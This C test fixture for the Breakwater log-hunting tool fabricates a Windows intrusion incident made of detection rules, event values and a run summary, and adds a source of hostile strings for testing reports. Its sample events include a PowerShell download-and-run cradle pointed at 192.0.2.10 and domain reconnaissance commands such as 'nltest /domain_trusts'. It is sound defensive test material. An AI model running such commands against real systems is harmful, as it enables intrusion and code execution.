/* The made-up incident and the hostile finding of report_source.h. */
#include <inttypes.h>
#include <stdio.h>

#include "support/report_source.h"

#define S       BW_STR_INIT
#define AUTHOR  S("Breakwater test authors")
#define LICENSE S("Apache-2.0")

// clang-format off
static const struct finding_rule incident_rules[] = {
    {.id = S("00000000-0000-4000-8000-000000000001"), .title = S("Web Server Process Starts a Shell"),
     .author = AUTHOR, .license = LICENSE, .level = FINDING_LEVEL_CRITICAL, .stage = ATTACK_STAGE_INITIAL_ACCESS,
     .techniques = S("T1190 T1505.003"), .tags = S("attack.initial-access attack.t1190 attack.persistence attack.t1505.003 attack.g0065"),
     .description = S("A web server seldom starts a command interpreter; a web shell does."), .status = S("stable"),
     .references = S("https://attack.mitre.org/techniques/T1505/003/\nhttps://example.org/web-shells"),
     .falsepositives = S("Applications that call system tools\nMonitoring agents"), .path = S("rules/a.yml")},
    {.id = S("00000000-0000-4000-8000-000000000002"), .title = S("Account and Host Enumeration Burst"),
     .author = AUTHOR, .level = FINDING_LEVEL_MEDIUM, .stage = ATTACK_STAGE_DISCOVERY,
     .techniques = S("T1018 T1082"), .tags = S("attack.discovery attack.t1018 attack.t1082 attack.c0049")},
    {.id = S("00000000-0000-4000-8000-000000000003"), .title = S("Service Ticket Requested with RC4"),
     .author = S("A. Nother"), .level = FINDING_LEVEL_HIGH, .stage = ATTACK_STAGE_CREDENTIAL_ACCESS,
     .techniques = S("T1558.003"), .tags = S("attack.credential-access attack.t1558.003 attack.c0049")},
    {.id = S("00000000-0000-4000-8000-000000000004"), .title = S("Scheduled Task Runs from a Temporary Folder"),
     .author = AUTHOR, .level = FINDING_LEVEL_HIGH, .stage = ATTACK_STAGE_PERSISTENCE,
     .techniques = S("T1053.005"), .tags = S("attack.persistence attack.t1053.005")},
    {.id = S("00000000-0000-4000-8000-000000000005"), .title = S("Administrative Share Mounted from a DMZ Host"),
     .author = AUTHOR, .level = FINDING_LEVEL_HIGH, .stage = ATTACK_STAGE_LATERAL_MOVEMENT,
     .techniques = S("T1021.002"), .tags = S("attack.lateral-movement attack.t1021.002 attack.g0065")},
    {.id = S("00000000-0000-4000-8000-000000000006"), .title = S("Archive Written to a Common Temporary Path"),
     .author = AUTHOR, .level = FINDING_LEVEL_MEDIUM, .stage = ATTACK_STAGE_COLLECTION,
     .techniques = S("T1074.001 T1560"), .tags = S("attack.collection attack.t1074.001 attack.t1560 attack.g0065")},
    {.id = S("00000000-0000-4000-8000-000000000007"), .title = S("Security Log Cleared"),
     .author = AUTHOR, .level = FINDING_LEVEL_CRITICAL, .stage = ATTACK_STAGE_DEFENSE_EVASION,
     .techniques = S("T1070.001"), .tags = S("attack.defense-evasion attack.t1070.001")},
    {.id = S("00000000-0000-4000-8000-000000000008"), .title = S("PowerShell Downloads and Runs Text"),
     .author = S("Somebody Else, A. Nother"), .level = FINDING_LEVEL_HIGH, .stage = ATTACK_STAGE_EXECUTION,
     .techniques = S("T1059.001 T1105"), .tags = S("attack.execution attack.t1059.001 attack.command-and-control attack.t1105 attack.g0065")},
    {.id = S("00000000-0000-4000-8000-000000000009"), .title = S("Rare Program Speaks TLS for Hours"),
     .author = AUTHOR, .level = FINDING_LEVEL_LOW, .stage = ATTACK_STAGE_COMMAND_AND_CONTROL,
     .techniques = S("T1572"), .tags = S("attack.command-and-control attack.t1572 attack.c0049")},
    {.id = S("00000000-0000-4000-8000-000000000010"), .title = S("Logon Outside of Office Hours"),
     .author = AUTHOR, .level = FINDING_LEVEL_INFORMATIONAL, .stage = ATTACK_STAGE_UNKNOWN},
};

static const struct {
    bw_str item, channel, provider, event_id, field, path, test, value;
} incident_events[] = {
    {S("evidence/WEB01/Sysmon.evtx"), S("Microsoft-Windows-Sysmon/Operational"), S("Microsoft-Windows-Sysmon"), S("1"),
     S("CommandLine"), S("Event.EventData.CommandLine"), S("contains whoami"), S("cmd.exe /c \"whoami /all & net group \"Domain Admins\" /domain\"")},
    {S("evidence/WEB01/Sysmon.evtx"), S("Microsoft-Windows-Sysmon/Operational"), S("Microsoft-Windows-Sysmon"), S("1"),
     S("CommandLine"), S("Event.EventData.CommandLine"), S("endswith nltest /domain_trusts"), S("nltest /domain_trusts")},
    {S("evidence/dc.zip!Security.evtx"), S("Security"), S("Microsoft-Windows-Security-Auditing"), S("4769"),
     S("TicketEncryptionType"), S("Event.EventData.TicketEncryptionType"), S("equals 0x17"), S("0x17")},
    {S("evidence/FS02/Security.evtx"), S("Security"), S("Microsoft-Windows-Security-Auditing"), S("4698"),
     S("TaskName"), S("Event.EventData.TaskName"), S("startswith \\"), S("\\Microsoft\\Windows\\Updater\\Caché")},
    {S("evidence/FS02/Security.evtx"), S("Security"), S("Microsoft-Windows-Security-Auditing"), S("5140"),
     S("ShareName"), S("Event.EventData.ShareName"), S("endswith $"), S("\\\\*\\C$")},
    {S("evidence/FS02/Sysmon.evtx"), S("Microsoft-Windows-Sysmon/Operational"), S("Microsoft-Windows-Sysmon"), S("11"),
     S("TargetFilename"), S("Event.EventData.TargetFilename"), S("endswith .7z"), S("C:\\Windows\\Temp\\backup-2022.7z")},
    {S("evidence/FS02/Security.evtx"), S("Security"), S("Microsoft-Windows-Eventlog"), S("1102"),
     S("EventID"), S("Event.System.EventID"), S("equals 1102"), S("1102")},
    {S("evidence/WEB01/PowerShell.evtx"), S("Microsoft-Windows-PowerShell/Operational"), S("Microsoft-Windows-PowerShell"), S("4104"),
     S("ScriptBlockText"), S("Event.EventData.ScriptBlockText"), S("contains DownloadString"), S("$c = New-Object Net.WebClient; $c.DownloadString('https://192.0.2.10/a')")},
    {S("evidence/WEB01/Sysmon.evtx"), S("Microsoft-Windows-Sysmon/Operational"), S("Microsoft-Windows-Sysmon"), S("3"),
     S("DestinationIp"), S("Event.EventData.DestinationIp"), S("cidr 192.0.2.0/24"), S("192.0.2.44")},
    {S("evidence/dc.zip!Security.evtx"), S("Security"), S("Microsoft-Windows-Security-Auditing"), S("4624"),
     S("TargetUserName"), S("Event.EventData.TargetUserName"), S("exists"), S("svc-backup")},
};
// clang-format on
_Static_assert(BW_COUNT(incident_rules) == BW_COUNT(incident_events), "an event for each rule");

static const bw_str incident_hosts[] = {S("WEB01.example.org"), S("DC01.example.org"),
        S("FS02.example.org"), S("WS-0117.example.org"), S("WS-0242.example.org")};

/* 2022-07-18T02:00:00Z */
#define INCIDENT_START (INT64_C(1658109600) * BW_TIME_SECOND)
#define INCIDENT_SPAN  (INT64_C(10) * 86400 * BW_TIME_SECOND)

/* Which rule finding `index` is of: rare ones rare, one after the other at the beginning. */
static uint32_t incident_rule(uint64_t index)
{
    static const uint32_t common[] = {9, 8, 9, 1, 9, 5, 9, 8, 1, 9, 2, 9, 8, 9, 4, 9};
    if (index < BW_COUNT(incident_rules))
        return (uint32_t)index;
    const uint64_t mixed = index * UINT64_C(0x9e3779b97f4a7c15) >> 40;
    if (mixed % 97 == 0)
        return (uint32_t)(mixed / 97 % BW_COUNT(incident_rules));
    return common[mixed % BW_COUNT(common)];
}

static void incident_make(void *user, uint64_t index, struct finding *ret_finding)
{
    static char record[2048]; /* lives until the next call, as the header says */
    const uint64_t count = *(const uint64_t *)user;
    const uint32_t rule = incident_rule(index);
    const uint64_t mixed = index * UINT64_C(0xd1b54a32d192ed03) >> 33;
    const bw_str host = incident_hosts[rule == 0 ? 0 : mixed % BW_COUNT(incident_hosts)];
    const int64_t step = INCIDENT_SPAN / (int64_t)(count + 1);
    *ret_finding = (struct finding){.rule = rule,
            .time = INCIDENT_START + (int64_t)index * step + (int64_t)(mixed % 1000) * 1000,
            .host = host,
            .item = incident_events[rule].item,
            .channel = incident_events[rule].channel,
            .provider = incident_events[rule].provider,
            .event_id = incident_events[rule].event_id,
            .user = S("EXAMPLE\\svc-web"),
            .item_index = rule,
            .record_id = 1000 + index,
            .offset = 4096 + index * 512,
            .anomalies = rule == 6 ? 1 : 0,
            .reason_count = 2};
    ret_finding->reasons[0] = (struct finding_reason){.field = S("EventID"),
            .path = S("Event.System.EventID"),
            .test = S("equals"),
            .value = incident_events[rule].event_id};
    ret_finding->reasons[1] = (struct finding_reason){.field = incident_events[rule].field,
            .path = incident_events[rule].path,
            .test = incident_events[rule].test,
            .value = incident_events[rule].value};
    const int len = snprintf(record, sizeof(record),
            "{\"Event\":{\"System\":{\"Provider_Name\":\"%s\",\"EventID\":%s,\"Channel\":\"%s\","
            "\"Computer\":\"%s\",\"EventRecordID\":%" PRIu64 "},\"EventData\":{\"Index\":%" PRIu64
            ",\"ProcessGuid\":\"{00000000-0000-0000-0000-%012" PRIx64 "}\",\"LogonId\":\"0x%" PRIx64
            "\",\"Hashes\":\"SHA256=%016" PRIx64 "%016" PRIx64 "\",\"Flag\":true,\"Nothing\":null,"
            "\"List\":[\"a\",2,{\"b\":3.5}]}}}",
            incident_events[rule].provider.ptr, incident_events[rule].event_id.ptr,
            incident_events[rule].channel.ptr, host.ptr, 1000 + index, index, index, mixed,
            mixed * mixed, mixed * 31);
    ret_finding->record = (bw_str){.ptr = record, .len = (size_t)len};
}

static const struct hunt_item incident_items[] = {
        {.index = 0,
                .label = S("evidence/WEB01/Sysmon.evtx"),
                .format = S("evtx"),
                .bytes = 69 << 20,
                .records = 110000,
                .matched = 900,
                .findings = 1000,
                .first = INCIDENT_START,
                .last = INCIDENT_START + INCIDENT_SPAN},
        {.index = 1, .label = S("evidence/dc.zip"), .format = S("zip"), .container = true},
        {.index = 2,
                .label = S("evidence/dc.zip!Security.evtx"),
                .format = S("evtx"),
                .bytes = 20 << 20,
                .records = 40000,
                .matched = 90,
                .unreadable = 12,
                .findings = 91,
                .first = INCIDENT_START,
                .last = INCIDENT_START + INCIDENT_SPAN},
        {.index = 3,
                .label = S("evidence/FS02/Security.evtx"),
                .format = S("evtx"),
                .outcome = HUNT_DONE_PARTLY,
                .reason = S("chunk 3 at offset 200704: truncated at offset 217088"),
                .bytes = 217088,
                .records = 400,
                .matched = 4,
                .unreadable = 1,
                .findings = 4},
        {.index = 4,
                .label = S("evidence/notes.txt"),
                .outcome = HUNT_NOT_A_LOG,
                .reason = S("no known log format")},
        {.index = 5,
                .label = S("evidence/locked.evtx"),
                .outcome = HUNT_UNREADABLE,
                .reason = S("Permission denied")},
        {.index = 6,
                .label = S("evidence/nothing.evtx"),
                .outcome = HUNT_EMPTY,
                .reason = S("zero bytes")},
};

static const struct hunt_note incident_notes[] = {
        {.item_index = 2,
                .item = S("evidence/dc.zip!Security.evtx"),
                .kind = INPUT_NOTE_UNREADABLE,
                .name = S("evtx.record"),
                .offset = 81920,
                .places = 12,
                .count = 12,
                .text = S("record size 12 is too small")},
        {.item_index = 3,
                .item = S("evidence/FS02/Security.evtx"),
                .kind = INPUT_NOTE_ANOMALY,
                .name = S("evtx.record_id_gap"),
                .offset = 69632,
                .places = 2,
                .count = 3120,
                .text = S("record id 5121 follows 2001")},
};

static const struct hunt_note_sum incident_note_sums[] = {
        {.kind = INPUT_NOTE_ANOMALY,
                .name = S("evtx.record_id_gap"),
                .items = 1,
                .places = 2,
                .count = 3120,
                .example = S("evidence/FS02/Security.evtx, offset 69632: record id 5121 follows "
                             "2001")},
        {.kind = INPUT_NOTE_UNREADABLE,
                .name = S("evtx.record"),
                .items = 1,
                .places = 12,
                .count = 12,
                .example = S("evidence/dc.zip!Security.evtx, offset 81920: record size 12 is too "
                             "small")},
};

static const struct hunt_summary incident_summary = {
        .started = INT64_C(1700000000) * BW_TIME_SECOND,
        .duration = INT64_C(2345678901),
        .version = S("0.1.0"),
        .command = S("breakwater hunt evidence --html report.html"),
        .items = 7,
        .containers = 1,
        .bytes = (89 << 20) + 217088,
        .outcomes = {[HUNT_DONE] = {3, 89 << 20},
                [HUNT_DONE_PARTLY] = {1, 217088},
                [HUNT_NOT_A_LOG] = {1, 0},
                [HUNT_UNREADABLE] = {1, 0},
                [HUNT_EMPTY] = {1, 0}},
        .records = 150400,
        .matched = 994,
        .unmatched = 149393,
        .unreadable = 13,
        .first = INCIDENT_START - INT64_C(86400) * BW_TIME_SECOND,
        .last = INCIDENT_START + INCIDENT_SPAN,
        .jobs = 2,
        .rules = {.files = 3780, .rules = 2950, .errors = 3},
        .layers = {{.name = S("namespaces"), .what = S("no network, no other process"), .up = true},
                {.name = S("Landlock"), .what = S("no path"), .up = true},
                {.name = S("seccomp"), .what = S("system calls on a short list only"), .up = true},
                {.name = S("rlimits"), .what = S("memory and time"), .up = true}},
        .layer_count = 4,
        .formats = {{.name = S("evtx"), .items = 3, .bytes = 89 << 20, .records = 150400},
                {.name = S("zip"), .items = 1}},
        .format_count = 2,
        .notes = incident_note_sums,
        .note_count = BW_COUNT(incident_note_sums),
};

struct fake_source fake_incident(uint64_t count)
{
    static uint64_t counts[8]; /* one for each source that a test holds at once */
    static size_t next;
    uint64_t *kept = &counts[next++ % BW_COUNT(counts)];
    *kept = count;
    return (struct fake_source){.rules = incident_rules,
            .rule_count = BW_COUNT(incident_rules),
            .finding_count = count,
            .make = incident_make,
            .user = kept,
            .summary = &incident_summary,
            .items = incident_items,
            .item_count = BW_COUNT(incident_items),
            .notes = incident_notes,
            .note_count = BW_COUNT(incident_notes),
            .duplicate_count = 12};
}

struct hostile {
    bw_str text, record;
    struct finding_rule rule;
    struct hunt_item item;
    struct hunt_note note;
    struct hunt_note_sum note_sum;
    struct hunt_summary summary;
};

static void hostile_make(void *user, uint64_t index, struct finding *ret_finding)
{
    const struct hostile *h = user;
    (void)index;
    *ret_finding = (struct finding){.time = INCIDENT_START,
            .host = h->text,
            .item = h->text,
            .channel = h->text,
            .provider = h->text,
            .event_id = h->text,
            .user = h->text,
            .record = h->record,
            .reason_count = 1};
    ret_finding->reasons[0] = (struct finding_reason){
            .field = h->text, .path = h->text, .test = h->text, .value = h->text};
}

struct fake_source fake_hostile(bw_str text, bw_str record)
{
    static struct hostile h;
    h = (struct hostile){.text = text, .record = record};
    h.rule = (struct finding_rule){.id = text,
            .title = text,
            .author = text,
            .description = text,
            .status = text,
            .references = text,
            .falsepositives = text,
            .techniques = text,
            .tags = text,
            .license = text,
            .path = text,
            .level = FINDING_LEVEL_CRITICAL,
            .stage = ATTACK_STAGE_INITIAL_ACCESS};
    h.item = (struct hunt_item){
            .label = text, .format = text, .outcome = HUNT_UNREADABLE, .reason = text};
    h.note = (struct hunt_note){.item = text, .name = text, .text = text, .count = 1};
    h.note_sum = (struct hunt_note_sum){.name = text, .example = text, .count = 1};
    h.summary = incident_summary;
    h.summary.version = h.summary.command = text;
    h.summary.items = h.summary.outcomes[HUNT_UNREADABLE].items = 1;
    h.summary.formats[0].name = h.summary.layers[0].name = h.summary.layers[0].what = text;
    h.summary.notes = &h.note_sum;
    h.summary.note_count = 1;
    return (struct fake_source){.rules = &h.rule,
            .rule_count = 1,
            .finding_count = 1,
            .make = hostile_make,
            .user = &h,
            .summary = &h.summary,
            .items = &h.item,
            .item_count = 1,
            .notes = &h.note,
            .note_count = 1};
}
